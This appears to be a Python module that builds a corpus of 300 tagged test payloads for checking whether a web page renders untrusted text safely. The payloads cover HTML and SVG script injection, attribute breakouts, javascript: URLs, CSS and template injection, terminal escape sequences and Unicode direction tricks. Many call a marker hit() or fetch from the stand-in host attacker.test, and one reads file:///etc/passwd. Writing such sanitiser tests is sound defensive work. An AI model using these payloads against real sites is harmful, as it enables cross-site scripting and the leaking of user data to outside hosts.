"""Texts that would run, ask or deceive if a page took them for anything but text.

Each calls ``hit()`` where it runs, and asks ``attacker.test`` where it is fetched.
"""

import random

COUNT = 300
AWAY = "http://attacker.test"

_MARKUP = [
    "<script>hit()</script>",
    "<SCRIPT SRC={away}/a.js></SCRIPT>",
    "<scr<script>ipt>hit()</script>",
    "<script\x0c>hit()</script\n>",
    "<img src=x onerror=hit()>",
    "<img src={away}/a.png>",
    "<image href={away}/b.png>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'>",
    "<svg><a href=javascript:hit()><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data={away}/o></object>",
    "<embed src=javascript:hit()>",
    "<video><source onerror=hit()></video>",
    "<video poster={away}/p.png></video>",
    "<audio src={away}/s.ogg autoplay></audio>",
    "<body onload=hit()>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>",
    "<marquee onstart=hit()>",
    "<p style=animation:x onanimationstart=hit()>",
    "<form action=javascript:hit()><button>go",
    "<a href=javascript:hit()>x</a>",
    "<a href='java\tscript:hit()'>x</a>",
    "<base href={away}/>",
    "<link rel=stylesheet href={away}/s.css>",
    "<meta http-equiv=refresh content='0;url={away}/r'>",
    "<style>@import '{away}/i.css';</style>",
    "<style>*{{background:url({away}/bg)}}</style>",
    "<template shadowrootmode=open><script>hit()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "<?xml-stylesheet href={away}/x.css?>",
    "<custom-element onclick=hit()>x",
]
_BREAKOUTS = [
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    "`><img src=x onerror=hit()>",
    '" onmouseover="hit()',
    "' onfocus='hit()' autofocus='",
    '" style="background:url({away}/q)',
    "</textarea><img src=x onerror=hit()>",
    "</title><script>hit()</script>",
    "</style><script>hit()</script>",
    "</script><script>hit()</script>",
    "</svg><img src=x onerror=hit()>",
    "</td></tr></table><img src=x onerror=hit()>",
    "</pre></div><svg onload=hit()>",
    "]]><svg onload=hit()>",
    "--><svg onload=hit()>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "%3Cscript%3Ehit()%3C/script%3E",
]
_ADDRESSES = [
    "javascript:hit()",
    "JaVaScRiPt:hit()//",
    "\x01javascript:hit()",
    "data:text/html,<script>hit()</script>",
    "vbscript:hit()",
    "{away}/plain",
    "//attacker.test/protocol",
    "blob:{away}/1",
    "file:///etc/passwd",
    "url({away}/css)",
]
_STYLES = [
    "red;background:url({away}/c)",
    "}} * {{ background: url({away}/d) }}",
    "expression(hit())",
    "@import url({away}/e);",
    "var(--x, url({away}/f))",
    "\\75 rl({away}/g)",
    "image-set('{away}/h' 1x)",
]
_TEMPLATES = [
    "${{hit()}}",
    "{{{{hit()}}}}",
    "{{{{constructor.constructor('hit()')()}}}}",
    "<%= hit() %>",
    "#{{hit()}}",
    "`+hit()+`",
    "'+hit()+'",
    '");hit();("',
    "');hit();//",
    "__proto__",
    "constructor",
    "$\\href{{javascript:hit()}}{{x}}$",
    "$$\\require{{html}}\\class{{x}}{{y}}$$",
    "[x](javascript:hit())",
    "![x]({away}/m.png)",
    "<{away}/auto>",
]
_ESCAPES = [
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;javascript:hit()\x07link\x1b]8;;\x07",
    "\x1b]8;;{away}/osc\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    '\x1b[38;2;1;2;3;"onmouseover=hit()m',
    "\x1b[<script>hit()</script>m",
    "\x1bP<img src=x onerror=hit()>\x1b\\",
    "\x9b31m\x9d8;;javascript:hit()\x9c",
    "10%\r<img src=x onerror=hit()>\r100%",
    "a\x08\x08<svg onload=hit()>",
    "\x00<scr\x00ipt>hit()</scr\x00ipt>",
    "\x00",
    "\x7f\x1f\x85\u2028hit()\u2029",
]
_DIRECTIONS = [
    "\u202egnp.eliforp\u202c",
    "\u2066<img src=x onerror=hit()>\u2069",
    "\u200f\u202d123\u202c",
    "\ufeff<script>hit()</script>",
    "＜script＞hit()＜/script＞",
    "\u0130mg\u017fcript",
    "e" + "\u0301" * 50,
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") * 20,
]
_KINDS = {
    "markup": _MARKUP,
    "breakout": _BREAKOUTS,
    "address": _ADDRESSES,
    "style": _STYLES,
    "template": _TEMPLATES,
    "escape": _ESCAPES,
    "direction": _DIRECTIONS,
}
_WRAPS = ["{}", "a {} b", '"{}', "'{}", "\t{}\n", "{0}{0}", "x={}", "<b>{}", "{}" + " long" * 40]


def mark(number):
    """The beginning of a payload, by which it is found in a page."""
    return f"T{number:03}x"


def payloads(count=COUNT, seed=6):
    """Return so many texts: each as it is, then wrapped by chance, and a few very long ones."""
    chance = random.Random(seed)
    plain = [text.format(away=AWAY) for texts in _KINDS.values() for text in texts]
    made = list(plain)
    made += [text * 1_000 for text in ("<b>", "A", "\u202e<svg onload=hit()>"[:9])]
    while len(made) < count:
        made.append(chance.choice(_WRAPS).format(chance.choice(plain)))
    return [f"{mark(number)} {text}" for number, text in enumerate(made[:count])]
